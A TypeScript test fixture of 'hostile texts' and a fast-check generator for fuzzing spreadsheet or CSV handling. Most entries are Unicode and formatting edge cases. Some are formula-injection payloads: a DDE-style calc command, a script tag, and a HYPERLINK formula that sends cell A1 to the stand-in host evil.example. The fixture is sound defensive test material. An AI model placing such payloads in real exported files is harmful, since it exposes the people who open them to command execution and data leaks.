/** Texts that programs choke on. Where one could be a formula, it would compute INJECTED. */
import fc from "fast-check";

const LONGEST = 32_767;

export const HOSTILE_TEXTS: readonly string[] = [
  "=INJECTED()",
  "+INJECTED()",
  "-2+3+INJECTED|' /C calc'!A0",
  "@SUM(INJECTED)",
  "\t=INJECTED()",
  "\r\n=INJECTED()",
  "\uff1dINJECTED()",
  '=HYPERLINK("https://evil.example/?x="&A1,"INJECTED")',
  '","=INJECTED()',
  "{=INJECTED()}",
  "ActionRegister[INJECTED]",
  "<script>INJECTED()</script>",
  "&#x3d;INJECTED()",
  "'quoted",
  "''",
  "1.10",
  "007",
  "3/4",
  "5-1",
  "1E5",
  "TRUE",
  "#N/A",
  "July 2021",
  "_x0041_",
  "]]>",
  "\u{1F469}\u{1F3FD}\u200D\u{1F4BB} and \u{1F468}\u200D\u{1F469}\u200D\u{1F467}",
  "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
  "\u202ereversed\u202c",
  "e\u0301a\u0308o\u0302 \u1112\u1161\u11ab",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ealgo",
  "a\u0001b\u0008c\u001fd\u007fe",
  "high \ud83d alone",
  "\udc00 low alone",
  "\ufeffmark",
  "\uffff\ufffe",
  " \u00a0 ",
  "two\nlines",
];

const lines = Array.from({ length: 254 }, (_, line) => `line ${line + 1}`).join("\n");

/** The very long ones seldom: they are slow to write. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_TEXTS), weight: 60 },
  {
    arbitrary: fc
      .array(fc.nat(0xffff), { minLength: 1, maxLength: 12 })
      .map((codes) => String.fromCharCode(...codes)),
    weight: 10,
  },
  { arbitrary: fc.constantFrom(lines, "long ".repeat(LONGEST).slice(0, LONGEST)), weight: 1 },
);
